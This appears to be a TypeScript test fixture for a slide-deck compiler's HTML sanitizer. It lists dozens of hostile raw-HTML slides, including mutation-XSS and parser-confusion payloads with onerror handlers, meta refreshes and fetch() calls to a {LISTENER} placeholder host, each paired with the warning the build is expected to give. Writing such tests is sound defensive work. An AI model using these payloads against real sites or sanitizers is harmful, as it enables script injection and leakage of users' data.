import type { HostileCase } from "./case.js";

/** Asks the listener as soon as a page is opened, if it is read as an element. */
const leave = "<meta http-equiv=refresh content='0;url={LISTENER}/left'>";
const run = "<img src=data: onerror=\"fetch('{LISTENER}/ran')\">";

const removed = { as: "warning", codes: ["removed-element"] } as const;
const refused = { as: "warning", codes: ["refused-address"] } as const;
const notDrawn = { as: "warning", codes: ["not-drawn"] } as const;
const leftOut = { as: "warning", codes: ["left-out"] } as const;
const nothing = { as: "nothing" } as const;

type Says = HostileCase["says"];

/** Slides by name: the HTML on them, what a plain build says, and one with `--safe` where that is another. */
const slides: Readonly<Record<string, readonly [string, Says, Says?]>> = {
  // Names of elements that the compiler uses itself.
  "own-code": [`<quarterdeck-code title="></quarterdeck-code>${leave}"></quarterdeck-code>`, notDrawn, leftOut],
  "own-code-script": [
    `<quarterdeck-code title='></quarterdeck-code><script src={LISTENER}/x></script>'></quarterdeck-code>`,
    notDrawn,
    leftOut,
  ],
  // Style sheets that would leave their slide, and plug-ins of which only the attributes are known.
  "style-ends-its-scope": [
    "<style>p{a:b}} body{display:none} h1:is(.a{c:d} </style><style>/* x</style><style>p{a:'x</style>",
    nothing,
    leftOut,
  ],
  "style-for-the-page": [
    `<style>@page{size:1px} @font-face{font-family:x;src:url(data:font/woff2,x)} @layer must,top;</style>`,
    removed,
    leftOut,
  ],
  "style-in-two-pieces": [
    "<style>@/**/import '{LISTENER}/x'; u/**/rl({LISTENER}/y){a:b} p{a:u/**/rl(z)}</style>",
    nothing,
    leftOut,
  ],
  "chart-attributes": [`<canvas data-chart="${leave}" onclick="x()">1</canvas>`, notDrawn],
  "recording-elsewhere": [`<asciinema-player src="{LISTENER}/x.cast" title="${leave}"></asciinema-player>`, notDrawn],
  "diagram-in-html": [`<div class="mermaids" title="${leave}">A</div>`, nothing, nothing],
  "icon-outside": [`<i class="fas fa-../../../outside/canary fa-x/../y"></i>`, nothing, nothing],
  "icon-with-attributes": [`<i class="fas fa-home" title="${leave}" onclick="x()"></i>`, removed],
  "own-mark-for-code": [`<qd-code title="></qd-code>${leave}"></qd-code>`, nothing, nothing],
  "own-mark-with-a-key": [`<qd-code data-key="0000-0" title='">${run}'>x</qd-code>`, removed],
  "own-mark-for-a-part": [`<qd-part data-key="own-0" title="></qd-part>${leave}">x</qd-part>`, nothing],
  "own-mark-for-a-break": [`<qd-break data-key=own-0 title="${leave}"></qd-break>`, nothing, nothing],
  "own-mark-in-a-style": [`<style>p{--x:"<qd-code data-key=own-0></qd-code>${leave}"}</style>`, nothing, leftOut],
  "own-settings": [`<p id="quarterdeck-config">{"title":"x","recordings":{},"reveal":{}}</p>`, nothing, nothing],
  "a-mark's-name": [`<mark code title="</mark code>${leave}">x</mark code>`, nothing, leftOut],
  "verbatim-text": [`<verbatim text html="${leave}">x</verbatim>`, nothing, leftOut],

  // What scripting readers take for text.
  "noscript-attribute": [`<noscript><p title="</noscript>${leave}"></p></noscript>`, removed],
  "noscript-escaped": [
    "<noscript>&lt;/noscript&gt;&lt;img src=data: onerror=fetch('{LISTENER}')&gt;</noscript>",
    removed,
  ],
  "noscript-comment": [`<noscript><!-- </noscript>${run} --></noscript>`, removed],
  "noscript-style": [`<noscript><style></noscript>${run}</style></noscript>`, removed],
  "noscript-in-svg": [`<svg><noscript><g title="</noscript>${leave}"/></noscript></svg>`, removed],
  "noscript-in-capitals": [`<NOSCRIPT><b title="</NoScript >${leave}">x</b></NOSCRIPT>`, removed],

  // Elements with raw text, and those with text only.
  "style-attribute": [`<style title="</style>${leave}">p{}</style>`, nothing, leftOut],
  "style-entities": [
    `<svg><style>&lt;/style>&lt;meta http-equiv=refresh content=0;url={LISTENER}></style></svg>`,
    nothing,
    leftOut,
  ],
  "style-in-math": [`<math><style><a title="</style>${run}">x</a></style></math>`, removed, removed],
  "title-attribute": [`<title><p title="</title>${leave}">x</p></title>`, removed],
  "title-in-svg": [`<svg><title><p title="</title>${leave}">x</p></title></svg>`, nothing, nothing],
  "textarea-attribute": [`<textarea><p title="</textarea>${leave}">x</p></textarea>`, removed, removed],
  "textarea-escaped": [`<textarea>&lt;/textarea>&lt;img src=data: onerror=alert(1)></textarea>`, nothing, leftOut],
  "xmp-escaped": [`<xmp>&lt;/xmp>${run}</xmp>`, nothing],
  "plaintext-open": [`<plaintext><b title="${leave}">`, nothing],
  "noembed-escaped": [`<noembed>&lt;/noembed>${leave}</noembed>`, removed],
  "noframes-attribute": [`<noframes><p title="</noframes>${leave}"></p></noframes>`, removed],
  "iframe-escaped": [`<iframe>&lt;/iframe>${leave}</iframe>`, refused],

  // Comments and declarations.
  "comment-short": [`<!-->${run}-->`, removed],
  "comment-bang": [`<!-- --!>${run} -->`, removed],
  "comment-dash": [`<!--->${run}-->`, removed],
  "comment-in-svg": [`<svg><!--></svg>${run}--></svg>`, removed],
  "cdata-in-svg": [`<svg><desc><![CDATA[</desc></svg>${run}]]></desc></svg>`, nothing],
  "cdata-in-html": [`<![CDATA[><img src=data: onerror=fetch("{LISTENER}")>]]>`, nothing],
  "a-doctype": [`<!doctype html [<!ENTITY x "${leave}">]>`, nothing],
  "an-instruction": [`<?xml-stylesheet href="{LISTENER}" ?><p>x</p>`, nothing],

  // Attributes.
  "attribute-quote": [`<p "><img src=data: onerror=fetch('{LISTENER}')>x</p>`, removed],
  "attribute-apostrophe": [`<p ' title="'>${leave}">x</p>`, nothing, leftOut],
  "attribute-less-than": [`<p <img/src=data:/onerror=fetch('{LISTENER}')>x</p>`, nothing, leftOut],
  "attribute-slashes": [`<img/src="data:"/onerror="fetch('{LISTENER}')"/>`, nothing],
  "attribute-equals": [`<p =">${leave}">x</p>`, removed],
  "attribute-nul": [`<p title="&#0;"&#0;onclick="x" onmouse&#0;over=1>x</p>`, removed],
  "attribute-twice": [`<p ONCLICK="fetch('{LISTENER}')" onclick="1">x</p>`, removed],
  "attribute-return": [`<a title="&#13;&quot;>${leave}" href="#">x</a>`, nothing],

  // SVG and MathML.
  "math-glyph": [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${run}">`,
    { as: "error", codes: ["unclosed-comment"] },
  ],
  "math-malignmark": [`<math><mi><malignmark><svg><style><a title="</style>${run}">`, removed, removed],
  "math-annotation": [
    `<math><annotation-xml encoding="text/html"><style><a title="</style>${run}">x</a></style></annotation-xml></math>`,
    removed,
    removed,
  ],
  "math-annotation-xml": [
    `<math><annotation-xml encoding="application/xhtml+xml"><xmp>&lt;/xmp>${run}</xmp></annotation-xml></math>`,
    nothing,
    leftOut,
  ],
  "math-form": [`<form><math><mtext></form><form><mglyph><style></math>${run}</style>`, nothing, leftOut],
  "svg-desc": [`<svg><desc><style><a title="</style>${run}"></a></style></desc></svg>`, removed],
  "svg-foreign": [
    `<svg><foreignObject><p><style><a title="</style>${leave}"></style></p></foreignObject></svg>`,
    removed,
    removed,
  ],
  "svg-breakout": [`<svg></p><style><a id="</style>${run}">`, removed, removed],
  "svg-in-math": [`<math><svg><foreignObject><style>${leave}</style></foreignObject></svg></math>`, nothing, leftOut],
  "svg-title-table": [`<svg><title><table><style></title>${leave}</style></table></title></svg>`, nothing, leftOut],
  "svg-script": [`<svg><script href="{LISTENER}/x"/></svg>`, removed],
  "svg-handler": [`<svg onload="fetch('{LISTENER}')"><a onfocusin=x tabindex=0>x</a></svg>`, removed],

  // Elements that a parser moves, ends or ignores.
  "table-foster": [`<table><style></table>${leave}</style><tr><td>x</table>`, nothing, leftOut],
  "table-deep": [`<table><tr><td><table><a title="</table>${run}"><td></table>`, nothing, leftOut],
  "form-twice": [`<form><div></form><form><input name=x title="${leave}"></div></form>`, nothing, leftOut],
  "link-twice": [`<a href="#"><b><a href="#" title="</b>${run}">x</a></b></a>`, removed],
  "button-twice": [`<button><p><button title="</p>${leave}">x</button></p></button>`, nothing, leftOut],
  "select-holds": [`<select><option><p title="</select>${run}">x</p></option></select>`, removed, removed],
  "select-style": [`<select><style></select>${run}</style></select>`, nothing, leftOut],
  "p-holds-blocks": [`<p><b><div title="</p>${leave}">x</div></b></p>`, nothing],
  "a-body": [
    `<body onload="fetch('{LISTENER}')" background="{LISTENER}/b"><p>x</p></body>`,
    { as: "warning", codes: ["removed-element", "refused-address"] },
  ],
  "a-head": [
    `<html manifest="{LISTENER}/m"><head><base href="{LISTENER}/"></head>x</html>`,
    { as: "warning", codes: ["removed-element", "refused-address"] },
  ],
  "a-frameset": [`<frameset onload=x><frame src="{LISTENER}"></frameset>`, removed],
  "a-template": [`<template shadowrootmode="open"><p title="</template>${leave}">x</p></template>`, removed],
  "an-image": [`<image src="data:" onerror="fetch('{LISTENER}')">`, removed],
  isindex: [`<isindex action="{LISTENER}" prompt="${leave}">`, refused],
  "a-void-with-content": [`<BR><input title="${leave}">x</BR>`, nothing],
  sections: [`</section></div></section><section data-background-iframe="{LISTENER}">x</section>`, refused],
  "a-base": [`<base href="{LISTENER}/"><p>x</p>`, removed],
  "a-meta": [`<META HTTP-EQUIV="Refresh" CONTENT="0;url={LISTENER}">`, removed],
};

export const cases: readonly HostileCase[] = Object.entries(slides).map(([name, [html, says, saysSafe]]) => ({
  name: `html-${name.replace("'s", "s")}`,
  attacks: "raw HTML",
  files: { "deck.md": `## Title\n\n${html}\n\n\`\`\`sh\necho\n\`\`\`\n` },
  says,
  ...(saysSafe ? { saysSafe } : {}),
}));
